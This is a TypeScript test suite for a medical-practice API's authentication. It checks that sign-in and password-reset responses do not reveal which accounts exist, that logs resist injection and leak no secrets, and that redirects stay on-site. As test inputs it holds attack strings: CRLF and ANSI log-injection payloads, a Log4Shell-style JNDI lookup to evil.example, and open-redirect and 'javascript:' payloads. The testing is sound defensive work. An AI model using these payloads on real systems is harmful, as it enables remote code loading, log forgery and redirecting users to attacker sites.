import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { keyOf } from '../harness/clients.ts'
import { changeUser, codeOf, enrol, owing, realHash, wrongCode } from '../harness/identity.ts'
import { itemsLike, newPractice, password, type TestPractice } from '../harness/index.ts'
import { tokenOf } from '../harness/letters.ts'
import { alike, compared, provenApart } from '../harness/timing.ts'
import { type Answer, fire, holding, origin, type Shot, tokenIn } from './attacker.ts'
import { expectRecorded } from './denials.ts'

const practices: TestPractice[] = []
let hash: string
const planted = async (): Promise<TestPractice> => {
  const practice = await newPractice({ passwordHash: hash })
  practices.push(practice)
  return practice
}
beforeAll(async () => {
  hash = await realHash()
})

const signIn = (practice: string, email: string, secret = 'not-the-right-password'): Shot => ({
  method: 'POST',
  path: '/auth/login',
  body: { practice, email, password: secret },
})
const forgot = (practice: string, email: string): Shot => ({
  method: 'POST',
  path: '/passwords/forgot',
  body: { practice, email },
})

/** All of an answer that could tell, without what differs between any two. */
const told = ({ status, text, headers, cookies }: Answer): string => {
  const varies = /^(date|x-request-id|apigw-requestid|ratelimit|x-session-.*)$/
  const shown = Object.entries(headers).filter(([name]) => !varies.test(name))
  const plain = text.replace(/urn:request:[^"]+/, '').replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'then')
  return JSON.stringify([status, plain, shown, cookies])
}

describe('whether somebody has an account', () => {
  it('is told by no text, status or header of a sign-in or of a forgotten password', async () => {
    const { practice, users } = await planted()
    await changeUser(users.biller, { status: 'disabled' })
    const nobody = `nobody@${practice.slug}.example`
    const askedFor = [users.patient.email, users.biller.email, nobody]
    for (const request of [signIn, forgot]) {
      const answers = [
        ...(await Promise.all(askedFor.map(email => fire(request(practice.slug, email))))),
        await fire(request('no-such-practice', nobody)),
      ]
      expect(new Set(answers.map(told)).size, answers.map(told).join('\n')).toBe(1)
    }
    // Who is disabled is told so by no right password either.
    const right = await fire(signIn(practice.slug, users.biller.email, password))
    expect(told(right)).toBe(told(await fire(signIn(practice.slug, nobody))))
  })

  it('is told by no CAPTCHA, no passkey and no provider that is offered before signing in', async () => {
    const { practice, users } = await planted()
    const shapeOf = async (shot: Shot) => {
      const { status, body } = await fire(shot)
      return JSON.stringify([status, Object.keys(body).sort()])
    }
    const account = (email: string) => createHash('sha256').update(email).digest('base64url')
    const captcha = (email: string): Shot => ({
      path: `/captcha/challenge?purpose=login&practice=${practice.slug}&account=${account(email)}`,
    })
    expect(await shapeOf(captcha(users.patient.email))).toBe(await shapeOf(captcha('nobody@nowhere.example')))
    const named = { method: 'POST', path: '/passkeys/login/options', body: { email: users.patient.email } }
    expect((await fire(named)).status).toBe(400)
    const providers = (slug: string): Shot => ({ path: `/federation/providers?practice=${slug}` })
    expect(told(await fire(providers(practice.slug)))).toBe(told(await fire(providers('no-such-practice'))))
  })

  it('is told by no invitation and no change of an e-mail to one that is taken', async () => {
    const { as, practice, users } = await planted()
    const { token } = await as('admin')
    const to = (email: string): Shot => ({ method: 'POST', path: '/accounts/me/email', body: { email }, token })
    const [taken, free] = [await fire(to(users.patient.email)), await fire(to(`free@${practice.slug}.example`))]
    expect(told(taken)).toBe(told(free))
    const invite = (email: string): Shot => ({
      method: 'POST',
      path: '/invitations',
      body: { email, role: 'biller' },
      token,
    })
    const [known, unknown] = [
      await fire(invite(users.biller.email)),
      await fire(invite(`new@${practice.slug}.example`)),
    ]
    expect([known.status, told(known)]).toEqual([202, told(unknown)])
  })

  it('takes the same time: the medians of known and unknown are within 10 %, sampled in turn', async () => {
    const times: Record<'known' | 'unknown', number[]> = { known: [], unknown: [] }
    await fire(signIn('no-such-practice', 'nobody@nowhere.example'))
    // A noisy machine is asked again and more is compared: what really differs goes on differing.
    for (let round = 0; round < 5; round++) {
      const { practice, users } = await planted()
      for (const [index, { email }] of [...Object.values(users), ...Object.values(users)].entries()) {
        const known = signIn(practice.slug, email)
        const unknown = signIn(practice.slug, `nobody-${index % 7}@${practice.slug}.example`)
        const pair = [
          ['known', known],
          ['unknown', unknown],
        ] as const
        for (const [kind, shot] of index % 2 ? pair : [...pair].reverse()) {
          const answer = await fire(shot)
          expect(answer.status).toBe(401)
          times[kind].push(answer.ms)
        }
      }
      if (round >= 1 && alike(times.known, times.unknown)) break
    }
    expect(provenApart(times.known, times.unknown), compared(times.known, times.unknown)).toBe(false)
  })
})

/** Every line that a function has written, as it stands in its file. */
async function logLines(): Promise<string[]> {
  // What was written last may be on its way to the file.
  await pause(300)
  const folder = join(inject('target').data, 'logs')
  return readdirSync(folder).flatMap(file => readFileSync(join(folder, file), 'latin1').split('\n'))
}

describe('a log', () => {
  it('takes no line, no colour and no field from what a client sends, wherever it is put', async () => {
    const { as, practice } = await planted()
    const { token } = await as('admin')
    const mark = `mark${Date.now()}`
    const fake = `{"level":"INFO","message":"${mark}","sub":"admin"}`
    const agents = [
      fake,
      `\\r\\n${fake}`,
      `%0d%0a${fake}`,
      '\u001b[31mred',
      `${mark}\t${fake}`,
      `${'$'}{jndi:ldap://evil.example/a}`,
    ]
    const shots: Shot[] = [
      ...agents.map(agent => ({ path: '/patients', token, headers: { 'user-agent': agent } })),
      { path: `/patients/${encodeURIComponent(`\r\n${fake}`)}`, token },
      { path: `/patients/%1b[31m${mark}`, token },
      { path: `/patients?limit=${encodeURIComponent(`\n${fake}`)}`, token },
      { path: `/${encodeURIComponent(`${mark}\n${fake}`)}`, token },
      signIn(practice.slug, `\r\n${fake}@x.example`),
      {
        ...signIn(practice.slug, 'x@x.example'),
        raw: `{"practice":"${mark}\\r\\n\\u001b[2J","email":"x","password":"y"}`,
      },
      { method: 'POST', path: '/patients', token, body: { name: `${mark}\r\n${fake}`, [`${mark}\n${fake}`]: 1 } },
      { path: '/health', headers: { 'x-request-id': fake, 'x-correlation-id': fake, 'x-amzn-trace-id': fake } },
    ]
    for (const shot of shots) expect((await fire(shot)).status).toBeLessThan(500)
    // A header with a real control character never gets past the gateway.
    expect((await fire({ path: '/patients', token, headers: { 'user-agent': `a\r\n${fake}` } })).status).toBe(400)

    const lines = await logLines()
    expect(lines.length).toBeGreaterThan(shots.length)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(lines.filter(line => /[\u0000-\u0008\u000b-\u001f\u007f]/.test(line))).toEqual([])
    expect(lines.filter(line => line.startsWith(mark) || line.startsWith(fake))).toEqual([])
    const entries = lines.filter(line => line.startsWith('{')).map(line => JSON.parse(line))
    expect(entries.filter(({ message, sub }) => message === mark || sub === 'admin')).toEqual([])
    expect(entries.length).toBeGreaterThan(shots.length)
    // A name that somebody sends is no request's id.
    expect(lines.filter(line => line.includes('jndi'))).toEqual([])
  })

  it('holds no password, token, code, key, e-mail, phone or name of anybody, whatever failed or succeeded', async () => {
    const { as, users, practice, patients } = await planted()
    const { practiceSlug, email } = users.patient
    const guess = 'a-guess-that-nobody-may-read'
    const signedIn = await fire(signIn(practiceSlug, email, password))
    await fire(signIn(practiceSlug, email, guess))
    await fire(forgot(practiceSlug, email))
    const reset = await tokenOf(practice.practiceId, 'password-reset')
    await fire({
      method: 'POST',
      path: '/passwords/reset',
      body: { token: reset, password: 'seven grey geese at noon' },
    })
    const { secret, backupCodes } = await enrol(await as('admin', 'pending'))
    const pending = await owing(users.admin)
    const wrong = wrongCode(secret)
    await holding(pending.token).fire('POST', '/mfa/verify', { body: { code: wrong } })
    const verified = await holding(pending.token).fire('POST', '/mfa/verify', { body: { code: codeOf(secret) } })
    expect(verified.status).toBe(200)
    const key = await keyOf({ practice, users } as TestPractice)
    await fire({ path: '/patients', headers: { authorization: `Bearer ${key.secret}` } })
    await fire({ path: '/patients', headers: { authorization: `Bearer ${key.secret}x` } })
    const { token: desk } = await as('front-desk')
    const [patient] = patients
    await holding(desk).fire('GET', `/patients/${patient?.patientId}`)
    await holding(desk).fire('POST', '/patients', { body: { ...patient, extra: 1 } })

    const tokens = [tokenIn(signedIn), tokenIn(verified), pending.token, reset, key.secret]
    const secrets = [
      password,
      guess,
      'seven grey geese at noon',
      ...tokens.map(token => token.split('.').at(-1) ?? ''),
      signedIn.body.csrf,
      secret,
      ...backupCodes,
      email,
      String(patient?.name.family),
      String(patient?.birthDate),
    ]
    expect(secrets.filter(one => !one || one.length < 4)).toEqual([])
    const lines = await logLines()
    expect(secrets.filter(one => lines.some(line => line.includes(one)))).toEqual([])
    // Nor the trail, which more people may read than the charts.
    const trail = JSON.stringify(await itemsLike(`AUDIT#${practice.practiceId}#`))
    expect(trail.length).toBeGreaterThan(1_000)
    expect(secrets.filter(one => trail.includes(one))).toEqual([])
  })
})

describe('a redirect', () => {
  it('leads nowhere but to a path of our own, whatever it is asked to return to', async () => {
    const { practice } = await planted()
    const elsewhere = [
      'https://evil.example',
      '//evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      '/%2f%2fevil.example',
      '/..//evil.example',
      'javascript:alert(1)',
      '/\t/evil.example',
      '/a\r\nLocation: https://evil.example',
      `${origin}@evil.example`,
      '/account/../..//evil.example',
    ]
    for (const returnTo of elsewhere) {
      const body = { practice: practice.slug, provider: 'google', returnTo }
      const answer = await fire({ method: 'POST', path: '/federation/flows', body })
      expect([400, 404], returnTo).toContain(answer.status)
      expect(JSON.stringify([answer.headers, answer.text])).not.toContain('evil')
    }
    // An answer of a provider that nobody asked opens nothing and leads to our own page.
    for (const query of [
      'code=x&state=y',
      'error=access_denied&error_description=evil',
      'code=x&state=y&iss=https://evil.example',
    ]) {
      const answer = await fire({ path: `/federation/callbacks/google?${query}` })
      expect(JSON.stringify([answer.headers, answer.text])).not.toContain('evil')
      expect(answer.cookies.filter(cookie => /__Host-sid=[^;]/.test(cookie))).toEqual([])
      expect([303, 400, 401, 404]).toContain(answer.status)
      if (answer.status === 303) expect(answer.headers.location).toMatch(new RegExp(`^(${origin})?/[a-z]`))
    }
  })
})

it('the trail holds every denial', () => expectRecorded(...practices.map(({ practice }) => practice.practiceId)))
